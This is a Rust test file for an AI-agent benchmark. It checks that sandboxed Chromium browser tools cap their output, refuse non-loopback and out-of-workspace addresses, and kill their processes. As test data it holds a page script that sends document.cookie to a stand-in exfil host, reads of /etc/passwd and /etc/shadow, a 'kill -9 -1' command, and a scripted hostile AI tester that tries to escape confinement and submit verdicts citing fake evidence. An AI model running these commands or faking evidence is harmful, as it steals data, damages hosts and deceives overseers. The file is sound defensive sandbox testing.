//! The browser tools against a real headless Chromium inside a mission's sandbox, visiting pages
//! a server started with `start_server` serves on the sandbox's 127.0.0.1: each tool works, output
//! is capped, addresses outside loopback and the workspace are refused and recorded as sandbox
//! denials, and no Chromium process outlives its command group.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use missions_bench::tools::browser::tools::{
    with_browser_tools, BrowserAccess, BrowserTools, EvidenceDir,
};
use missions_bench::tools::browser::{find_program, BrowserLaunch};
use missions_bench::tools::sandbox::{Limits, Network, Sandbox, SandboxPaths, SandboxPolicy};
use missions_bench::tools::{CommandEnv, NoticeKind, Registry, ToolErrorKind, ToolReply};
use serde_json::{json, Value};

struct Context {
    tools: BrowserTools,
}

impl BrowserAccess for Context {
    fn browser_tools(&mut self) -> Option<&mut BrowserTools> {
        Some(&mut self.tools)
    }
}

struct Harness {
    registry: Registry<Context>,
    context: Context,
    root: PathBuf,
    report: PathBuf,
    _dir: tempfile::TempDir,
}

impl Harness {
    async fn call(&mut self, name: &str, args: Value) -> ToolReply {
        self.registry
            .dispatch(&mut self.context, name, args)
            .await
            .unwrap_or_else(|fatal| panic!("{name}: harness failure: {fatal}"))
    }

    async fn ok(&mut self, name: &str, args: Value) -> String {
        let reply = self.call(name, args.clone()).await;
        assert_eq!(reply.error, None, "{name} {args}: {}", reply.content);
        reply.content
    }

    fn workspace(&self) -> PathBuf {
        self.root.join("workspace")
    }
}

/// The path with Chromium on it, or `None` (the test then says it cannot run and fails: CI
/// installs Chromium).
fn chromium() -> PathBuf {
    let path = std::env::var("PATH").unwrap_or_else(|_| "/usr/local/bin:/usr/bin:/bin".into());
    find_program(&path).unwrap_or_else(|| {
        panic!("no Chromium on PATH (install the `chromium` package; .ci/run does)")
    })
}

const PAGE: &str = r#"<!doctype html>
<html><head><title>Greeter</title></head>
<body>
<h1>Greeter</h1>
<label for="name">Your name</label> <input id="name">
<button id="go">Greet</button>
<p id="out"></p>
<p id="agent"></p>
<script>document.getElementById('agent').textContent = 'agent: ' + navigator.userAgent;</script>
<ul><li style="width: 900px"><button onclick="document.getElementById('out').textContent = 'opened random'">#random</button> <span></span></li></ul>
<a href="/second.html">Second page</a>
<a href="file:///etc/hostname">Host file</a>
<button onclick="fetch('http://10.77.0.1/steal').catch(() => {}); document.title = 'tried'">Leak</button>
<script>
document.getElementById('go').onclick = async () => {
  const name = document.getElementById('name').value;
  const reply = await fetch('/api.json');
  const data = await reply.json();
  document.getElementById('out').textContent = data.greeting + ', ' + name + '!';
};
</script>
</body></html>"#;

fn harness(max_output: usize) -> Harness {
    let dir = tempfile::tempdir().unwrap();
    // As deep as a real mission's folder can be: Chromium's socket beneath $TMPDIR must still
    // fit a socket path's 107 bytes.
    let root = dir
        .path()
        .join("missions-bench-work-20261203-164054-607c")
        .join("team_chat.oracle+worker=a-long-model-name+user_testing=another-long-model-name.r0");
    let workspace = root.join("workspace");
    let home = root.join("home");
    let tmp = root.join("tmp");
    let report = dir.path().join("report");
    for d in [&workspace, &home, &tmp, &report] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(workspace.join("index.html"), PAGE).unwrap();
    std::fs::write(
        workspace.join("second.html"),
        "<html><head><title>Second</title></head><body><p>the second page</p></body></html>",
    )
    .unwrap();
    std::fs::write(workspace.join("api.json"), r#"{"greeting": "Hello"}"#).unwrap();
    let long: String = (0..20_000).map(|i| format!("line {i} ")).collect();
    std::fs::write(
        workspace.join("long.html"),
        format!("<html><body><p>{long}</p></body></html>"),
    )
    .unwrap();
    let path = std::env::var("PATH").unwrap_or_else(|_| "/usr/local/bin:/usr/bin:/bin".into());
    let policy = SandboxPolicy {
        network: Network::Loopback,
        limits: Limits {
            memory_bytes: Some(2 << 30),
            processes: Some(512),
            file_size_bytes: Some(256 << 20),
            cpu_seconds: Some(300),
            disk_bytes: Some(1 << 30),
            files: Some(20_000),
        },
        read: Vec::new(),
    };
    let paths = SandboxPaths {
        writable: vec![root.clone()],
        read_only: Vec::new(),
        counted: Vec::new(),
        read: Vec::new(),
        path_var: path.clone(),
    };
    let sandbox = Sandbox::new(policy, &paths).expect("sandbox");
    let env = CommandEnv {
        vars: vec![
            ("PATH".into(), path),
            ("HOME".into(), home.display().to_string()),
            ("TMPDIR".into(), tmp.display().to_string()),
            ("LANG".into(), "C.UTF-8".into()),
        ],
        timeout: Duration::from_secs(60),
        max_output_bytes: 16 * 1024,
        sandbox: Some(Arc::new(sandbox)),
        stop: None,
    };
    let launch = BrowserLaunch {
        program: chromium(),
        profile: home.join("browser-profile"),
        workspace: workspace.clone(),
        env,
    };
    let evidence = EvidenceDir {
        report: report.clone(),
        folder: "evidence/m".to_string(),
        prefix: "r3-".to_string(),
    };
    let registry = with_browser_tools(Registry::new());
    Harness {
        registry,
        context: Context {
            tools: BrowserTools::new(launch, evidence, max_output),
        },
        root,
        report,
        _dir: dir,
    }
}

async fn serve(h: &mut Harness, port: u16) {
    let reply = h
        .ok(
            "start_server",
            json!({"command": format!("python3 -m http.server {port} --bind 127.0.0.1"), "port": port}),
        )
        .await;
    assert!(reply.contains("accepts connections"), "{reply}");
}

/// Processes whose command line names `needle`.
fn processes_naming(needle: &str) -> Vec<i32> {
    let mut pids = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&cmdline).contains(needle) {
            pids.push(pid);
        }
    }
    pids
}

async fn wait_until_gone(needle: &str) -> Vec<i32> {
    for _ in 0..100 {
        let left = processes_naming(needle);
        if left.is_empty() {
            return left;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    processes_naming(needle)
}

#[tokio::test]
async fn each_browser_tool_works_on_a_page_served_in_the_sandbox() {
    let mut h = harness(16 * 1024);
    serve(&mut h, 8841).await;
    let opened = h
        .ok(
            "browser_open",
            json!({"url": "http://127.0.0.1:8841/index.html"}),
        )
        .await;
    assert!(opened.contains("title: Greeter"), "{opened}");

    let typed = h
        .ok(
            "browser_type",
            json!({"target": "Your name", "text": "Ada"}),
        )
        .await;
    assert!(typed.contains("typed into input"), "{typed}");
    let clicked = h.ok("browser_click", json!({"target": "Greet"})).await;
    assert!(clicked.contains("button \"greet\""), "{clicked}");
    let text = h.ok("browser_read", json!({})).await;
    assert!(text.contains("Hello, Ada!"), "{text}");
    assert!(
        text.starts_with("url: http://127.0.0.1:8841/index.html\ntitle: Greeter\n"),
        "{text}"
    );
    let tree = h.ok("browser_read", json!({"mode": "accessibility"})).await;
    assert!(tree.contains("button \"Greet\""), "{tree}");
    assert!(
        tree.contains("textbox \"Your name\" value=\"Ada\""),
        "{tree}"
    );

    // The page sees an ordinary Chrome, not a headless one.
    assert!(text.contains("agent: Mozilla/5.0"), "{text}");
    assert!(!text.contains("Headless"), "{text}");
    let shot = h.ok("browser_screenshot", json!({})).await;
    assert!(
        shot.starts_with("screenshot saved as evidence `r3-s1`"),
        "{shot}"
    );
    let png = std::fs::read(h.report.join("evidence/m/r3-s1.png")).unwrap();
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");
    // The viewport's size, from the PNG header.
    let width = u32::from_be_bytes(png[16..20].try_into().unwrap());
    let height = u32::from_be_bytes(png[20..24].try_into().unwrap());
    assert_eq!((width, height), (1280, 800));

    let network = h.ok("browser_network", json!({})).await;
    assert!(
        network.contains("GET http://127.0.0.1:8841/index.html -> 200"),
        "{network}"
    );
    assert!(
        network.contains("GET http://127.0.0.1:8841/api.json -> 200"),
        "{network}"
    );
    assert!(network.contains(r#"{"greeting": "Hello"}"#), "{network}");
    assert!(network.contains("(evidence `r3-n1`)"), "{network}");
    let saved = std::fs::read_to_string(h.report.join("evidence/m/r3-n1.json")).unwrap();
    assert!(saved.contains("api.json"), "{saved}");
    assert_eq!(
        h.ok("browser_network", json!({})).await,
        "no requests since the last call"
    );
    let evidence: Vec<String> = h
        .context
        .tools
        .take_evidence()
        .into_iter()
        .map(|e| format!("{} {} {}", e.id, e.kind.as_str(), e.path))
        .collect();
    assert_eq!(
        evidence,
        [
            "r3-s1 screenshot evidence/m/r3-s1.png",
            "r3-n1 network evidence/m/r3-n1.json"
        ]
    );

    // The button, not the wide list item around it that holds the same text.
    h.ok("browser_click", json!({"target": "#random"})).await;
    let opened = h.ok("browser_read", json!({})).await;
    assert!(opened.contains("opened random"), "{opened}");
    let second = h
        .ok("browser_click", json!({"target": "Second page"}))
        .await;
    assert!(
        second.contains("the page is now http://127.0.0.1:8841/second.html"),
        "{second}"
    );
    let missing = h.call("browser_click", json!({"target": "Nowhere"})).await;
    assert_eq!(missing.error, Some(ToolErrorKind::Failed));
    assert!(
        missing
            .content
            .contains("no element to click matches `Nowhere`"),
        "{}",
        missing.content
    );

    let workspace_file = format!("file://{}/second.html", h.workspace().display());
    let local = h.ok("browser_open", json!({"url": workspace_file})).await;
    assert!(local.contains("title: Second"), "{local}");

    assert_eq!(
        h.ok("browser_close", json!({})).await,
        "the browser is closed"
    );
    // A later call starts a fresh browser.
    let again = h
        .ok(
            "browser_open",
            json!({"url": "http://localhost:8841/second.html"}),
        )
        .await;
    assert!(again.contains("title: Second"), "{again}");
    h.context.tools.shut_down().await;
}

#[tokio::test]
async fn page_text_and_network_bodies_are_capped() {
    let mut h = harness(4096);
    serve(&mut h, 8842).await;
    h.ok(
        "browser_open",
        json!({"url": "http://127.0.0.1:8842/long.html"}),
    )
    .await;
    let text = h.ok("browser_read", json!({})).await;
    assert!(text.len() < 4096 + 300, "{} bytes", text.len());
    assert!(text.contains("bytes of the page dropped"), "{text}");
    assert!(text.contains("line 0 line 1 "), "the head is kept");
    assert!(text.contains("line 19999"), "the tail is kept");
    let network = h.ok("browser_network", json!({})).await;
    assert!(network.contains("more bytes]"), "a body is cut: {network}");
    h.context.tools.shut_down().await;
}

#[tokio::test]
async fn addresses_outside_loopback_and_the_workspace_are_refused_as_sandbox_denials() {
    let mut h = harness(16 * 1024);
    serve(&mut h, 8843).await;
    for (url, kind) in [
        ("http://example.com/", NoticeKind::NetworkDenied),
        ("http://10.77.0.1:8843/", NoticeKind::NetworkDenied),
        ("file:///etc/passwd", NoticeKind::PathRefused),
        ("chrome://version", NoticeKind::NetworkDenied),
    ] {
        let reply = h.call("browser_open", json!({"url": url})).await;
        assert_eq!(
            reply.error,
            Some(ToolErrorKind::Refused),
            "{url}: {}",
            reply.content
        );
        assert_eq!(reply.notices.len(), 1, "{url}");
        assert_eq!(reply.notices[0].kind, kind, "{url}");
        assert!(reply.notices[0].kind.is_denial());
        assert!(
            reply
                .content
                .starts_with("denied: the browser may not load"),
            "{}",
            reply.content
        );
    }
    // What the page itself tries is stopped too: a script's request to another address, and a
    // link to a file outside the workspace.
    h.ok(
        "browser_open",
        json!({"url": "http://127.0.0.1:8843/index.html"}),
    )
    .await;
    let leak = h.call("browser_click", json!({"target": "Leak"})).await;
    let denied: Vec<_> = leak
        .notices
        .iter()
        .filter(|n| n.kind == NoticeKind::NetworkDenied)
        .collect();
    assert_eq!(denied.len(), 1, "{}", leak.content);
    assert!(
        denied[0].detail.contains("10.77.0.1"),
        "{}",
        denied[0].detail
    );
    let link = h
        .call("browser_click", json!({"target": "Host file"}))
        .await;
    let read = h.ok("browser_read", json!({})).await;
    assert!(
        !read.starts_with("url: file:///etc"),
        "the browser stayed on a file outside the workspace: {read} ({})",
        link.content
    );
    h.context.tools.shut_down().await;
}

#[tokio::test]
async fn no_chromium_process_outlives_its_command_group() {
    let mut h = harness(16 * 1024);
    serve(&mut h, 8844).await;
    h.ok(
        "browser_open",
        json!({"url": "http://127.0.0.1:8844/index.html"}),
    )
    .await;
    let profile = h.root.join("home/browser-profile").display().to_string();
    let running = processes_naming(&profile);
    assert!(
        running.len() >= 2,
        "a browser and its helpers run: {running:?}"
    );
    // The run ends without browser_close: its end kills the browser, its helpers and the server.
    let notices = h.context.tools.shut_down().await;
    assert!(notices.iter().all(|n| !n.kind.is_limit()), "{notices:?}");
    assert_eq!(wait_until_gone(&profile).await, Vec::<i32>::new());
    assert_eq!(wait_until_gone("http.server 8844").await, Vec::<i32>::new());

    // Dropped without a shut-down (a cancelled run): the group is still killed.
    let mut h = harness(16 * 1024);
    serve(&mut h, 8845).await;
    h.ok(
        "browser_open",
        json!({"url": "http://127.0.0.1:8845/index.html"}),
    )
    .await;
    let profile = h.root.join("home/browser-profile").display().to_string();
    assert!(!processes_naming(&profile).is_empty());
    drop(h);
    assert_eq!(wait_until_gone(&profile).await, Vec::<i32>::new());
    assert_eq!(wait_until_gone("http.server 8845").await, Vec::<i32>::new());
}

fn web_suite() -> PathBuf {
    crate::common::repo().join("tests/fixtures/web")
}

/// The events of a finished run, with the pairing of each.
fn events_of(dir: &std::path::Path) -> Vec<(String, missions_bench::events::Event)> {
    missions_bench::events::read_events(&dir.join("events.jsonl"))
        .expect("the journal reads back")
        .into_iter()
        .filter_map(|record| Some((record.mission?.pairing, record.event)))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_whole_mission_checks_its_page_in_a_browser_and_keeps_the_screenshots() {
    use missions_bench::events::{Event, VerdictStatus};
    chromium();
    let out = tempfile::tempdir().unwrap();
    let mut settings = crate::common::settings(&web_suite(), &["oracle"], out.path());
    let config = missions_bench::spec::config::Config::default_config().unwrap();
    let idle_worker = config
        .pairing("oracle")
        .unwrap()
        .with_overrides(&[("worker".to_string(), "nop".to_string())])
        .unwrap();
    settings.pairings.push(idle_worker);
    let report = crate::common::run(&settings).await;
    let status = |pairing: &str| {
        let row = report
            .tables
            .missions
            .iter()
            .find(|m| m.pairing == pairing)
            .unwrap();
        (
            row.status.clone(),
            row.acceptance_passed,
            row.acceptance_total,
        )
    };
    assert_eq!(status("oracle"), ("passed".to_string(), 1, 1));
    assert_eq!(status("oracle+worker=nop").1, 0);

    let events = events_of(&report.dir);
    let mut saved = std::collections::BTreeMap::new();
    for (pairing, event) in &events {
        if let Event::EvidenceSaved { id, path, run, .. } = event {
            saved.insert((pairing.clone(), id.clone()), (path.clone(), *run));
        }
    }
    let png_at = |pairing: &str, id: &str| {
        let (path, run) = &saved[&(pairing.to_string(), id.to_string())];
        let png = std::fs::read(report.dir.join(path)).unwrap();
        assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n", "{path}");
        *run
    };
    // The oracle's user tester replayed the steps through the browser tools and cited its
    // screenshot; the harness's own check kept one too; each PNG opens.
    let verdicts: Vec<(&str, VerdictStatus, Vec<String>)> = events
        .iter()
        .filter_map(|(pairing, e)| match e {
            Event::VerdictReported {
                assertion,
                status,
                evidence_ids,
                ..
            } if assertion == "P2" => Some((pairing.as_str(), *status, evidence_ids.clone())),
            _ => None,
        })
        .collect();
    let of = |pairing: &str| -> Vec<VerdictStatus> {
        verdicts
            .iter()
            .filter(|(p, _, _)| *p == pairing)
            .map(|(_, s, _)| *s)
            .collect()
    };
    assert_eq!(of("oracle"), [VerdictStatus::Pass]);
    let idle = of("oracle+worker=nop");
    assert!(
        !idle.is_empty() && idle.iter().all(|s| *s == VerdictStatus::Fail),
        "{idle:?}"
    );
    for (pairing, _, ids) in &verdicts {
        assert_eq!(ids.len(), 1, "{pairing}: {ids:?}");
        assert!(
            png_at(pairing, &ids[0]).is_some(),
            "a user tester's screenshot belongs to its run"
        );
    }
    let checks: Vec<(&str, bool, Vec<String>)> = events
        .iter()
        .filter_map(|(pairing, e)| match e {
            Event::MechanicalCheck {
                assertion,
                passed,
                evidence_ids,
                ..
            } if assertion == "P2" => Some((pairing.as_str(), *passed, evidence_ids.clone())),
            _ => None,
        })
        .collect();
    assert!(
        checks
            .iter()
            .any(|(p, passed, _)| *p == "oracle" && *passed),
        "{checks:?}"
    );
    assert!(
        checks
            .iter()
            .any(|(p, passed, _)| *p != "oracle" && !*passed),
        "{checks:?}"
    );
    for (pairing, _, ids) in &checks {
        assert_eq!(ids.len(), 1);
        assert!(ids[0].starts_with("m1-r"), "{ids:?}");
        assert_eq!(
            png_at(pairing, &ids[0]),
            None,
            "the harness's check has no agent run"
        );
    }
    // The failed check says which step failed.
    let finding = events
        .iter()
        .find_map(|(_, e)| match e {
            Event::FindingRaised { finding, .. }
                if finding
                    .assertion
                    .as_ref()
                    .is_some_and(|a| a.as_str() == "P2")
                    && finding.title.contains("browser check") =>
            {
                Some(finding.detail.clone())
            }
            _ => None,
        })
        .expect("the idle worker's page fails its browser check");
    assert!(
        finding.contains("1. open http://127.0.0.1:8851/index.html: ok\n2. type `Ada` into `Your name`: no text field matches"),
        "{finding}"
    );
    assert!(finding.contains("screenshot: evidence `m1-r"), "{finding}");
    // The assertions table cites the files, and the HTML report shows the screenshots.
    let row = report
        .tables
        .assertions
        .iter()
        .find(|a| a.pairing == "oracle" && a.assertion == "P2")
        .expect("P2's row");
    let cited: Vec<&str> = row.evidence.split(", ").collect();
    assert_eq!(
        cited.len(),
        2,
        "the verdict's and the check's: {}",
        row.evidence
    );
    for path in &cited {
        assert!(
            path.starts_with("evidence/") && path.ends_with(".png"),
            "{path}"
        );
        assert!(report.dir.join(path).is_file(), "{path}");
    }
    let html = missions_bench::report::html::render(
        std::slice::from_ref(&report.tables),
        std::slice::from_ref(&report.dir),
        &report.dir.join("report.html"),
        "web",
    );
    assert!(
        html.matches("data:image/png;base64,").count() >= 2,
        "screenshots embedded"
    );
    // No browser is left running.
    assert_eq!(
        wait_until_gone(&out.path().display().to_string()).await,
        Vec::<i32>::new()
    );
}

/// A hostile user tester (played over the OpenAI protocol by a scripted server) first tries to
/// get past the browser's confinement: addresses outside loopback and the workspace, a page of
/// its own that calls out, a server that never starts, killing the harness's browser, and a
/// verdict citing evidence it never saved. Every attempt is refused and recorded; then it tests
/// as the oracle would, and the mission passes with the host untouched.
#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_user_tester_gets_nothing_past_the_browser_confinement() {
    use crate::http_server::ScriptedServer;
    use crate::remote_mission::{run_remote_mission, Protocol, Relay};
    use missions_bench::events::Event;
    use missions_bench::spec::Role;
    chromium();
    let suite = missions_bench::spec::suite::load_suite(&web_suite()).expect("web suite");
    let mission = std::sync::Arc::new(suite.missions.into_iter().next().expect("page"));
    let call = |name: &str, args: Value| vec![(name.to_string(), args.to_string())];
    let evil = "<html><body><p>evil</p><script>fetch('http://10.66.0.1/exfil?'+document.cookie).catch(()=>{}); location.href='file:///etc/shadow';</script></body></html>";
    let turns = vec![
        call("browser_open", json!({"url": "http://example.com/"})),
        call("browser_open", json!({"url": "file:///etc/passwd"})),
        call(
            "browser_open",
            json!({"url": "http://127.0.0.1@198.51.100.7/"}),
        ),
        call("start_server", json!({"command": "false", "port": 8852})),
        call(
            "run_command",
            json!({"command": format!("printf '%s' \"{}\" > evil.html", evil.replace('"', "\\\""))}),
        ),
        call(
            "start_server",
            json!({"command": "python3 -m http.server 8852 --bind 127.0.0.1", "port": 8852}),
        ),
        call(
            "browser_open",
            json!({"url": "http://127.0.0.1:8852/evil.html"}),
        ),
        call("browser_read", json!({})),
        call(
            "run_command",
            json!({"command": "pkill -9 -f chromium; kill -9 -1; echo tried"}),
        ),
        call("browser_screenshot", json!({})),
        call(
            "submit_verdicts",
            json!({"verdicts": [
                {"assertion": "P1", "status": "pass", "evidence": "trust me", "evidence_ids": ["m1-r1-P2-s1"]},
                {"assertion": "P2", "status": "pass", "evidence": "trust me", "evidence_ids": ["r99-s1"]}
            ]}),
        ),
    ];
    let hostile_turns = turns.len();
    let relay = Arc::new(Relay::new(mission, None).with_hostile(Role::UserTesting, turns));
    let handler = relay.clone();
    let server = ScriptedServer::start(move |request, index| handler.answer(request, index)).await;
    let out = tempfile::tempdir().unwrap();
    let report = run_remote_mission(
        &server,
        Protocol::OpenAi,
        0,
        out.path(),
        &web_suite(),
        "page",
        "",
    )
    .await;
    let mission = &report.tables.missions[0];
    assert_eq!(mission.status, "passed", "{mission:?}");
    assert_eq!(mission.acceptance_passed, 1);

    let hostile = report
        .tables
        .runs
        .iter()
        .find(|r| r.role == "user_testing" && r.turns as usize > hostile_turns)
        .expect("the hostile user tester's run");
    let events = missions_bench::events::read_events(&report.dir.join("events.jsonl")).unwrap();
    let mut denials = Vec::new();
    let mut refused_calls = Vec::new();
    for record in &events {
        match &record.event {
            Event::Sandbox {
                run: Some(run),
                kind,
                detail,
                ..
            } if *run == hostile.agent_run && kind.is_denial() => denials.push(detail.clone()),
            Event::ToolCalled {
                run, tool, status, ..
            } if *run == hostile.agent_run && *status != missions_bench::events::CallStatus::Ok => {
                refused_calls.push(tool.clone())
            }
            _ => {}
        }
    }
    let denied = |needle: &str| denials.iter().any(|d| d.contains(needle));
    assert!(denied("http://example.com/"), "{denials:#?}");
    assert!(denied("file:///etc/passwd"), "{denials:#?}");
    assert!(denied("198.51.100.7"), "{denials:#?}");
    // The page's own request out, and the page it tried to move to.
    assert!(denied("10.66.0.1"), "{denials:#?}");
    assert!(hostile.sandbox_denials >= 4, "{hostile:?}");
    // The server that never listened, and the verdicts citing evidence this run never saved.
    assert!(
        refused_calls.iter().any(|t| t == "start_server"),
        "{refused_calls:?}"
    );
    assert!(
        refused_calls.iter().any(|t| t == "submit_verdicts"),
        "{refused_calls:?}"
    );
    // The verdicts that count are the ones after the refusal, and cite the run's own evidence.
    let verdict_ids: Vec<Vec<String>> = events
        .iter()
        .filter_map(|r| match &r.event {
            Event::VerdictReported {
                run, evidence_ids, ..
            } if *run == hostile.agent_run => Some(evidence_ids.clone()),
            _ => None,
        })
        .collect();
    assert!(!verdict_ids.is_empty());
    for ids in verdict_ids.iter().flatten() {
        assert!(
            ids.starts_with(&format!("r{}-", hostile.agent_run)),
            "{ids}"
        );
    }
    // Evidence lives under the report only, and no browser or server is left.
    assert!(report.dir.join("evidence").is_dir());
    assert_eq!(
        wait_until_gone(&out.path().display().to_string()).await,
        Vec::<i32>::new()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_mission_that_needs_a_browser_on_a_machine_without_one_is_an_infrastructure_error() {
    let out = tempfile::tempdir().unwrap();
    // A PATH with the shell and nothing else: no Chromium.
    let bin = out.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::os::unix::fs::symlink("/bin/sh", bin.join("sh")).unwrap();
    let mut settings = crate::common::settings(&web_suite(), &["oracle"], out.path());
    settings.base_path = bin.display().to_string();
    let report = crate::common::run(&settings).await;
    let mission = &report.tables.missions[0];
    assert_eq!(mission.status, "error", "{mission:?}");
    assert_eq!(
        mission.halt_reason.as_deref(),
        Some("environment_setup_failed")
    );
    assert!(
        mission.halt_detail.contains(
            "this mission needs a browser, and none of chromium, chromium-browser, google-chrome, google-chrome-stable is on the commands' PATH"
        ),
        "{}",
        mission.halt_detail
    );
    assert_eq!(mission.agent_runs, 0);
}
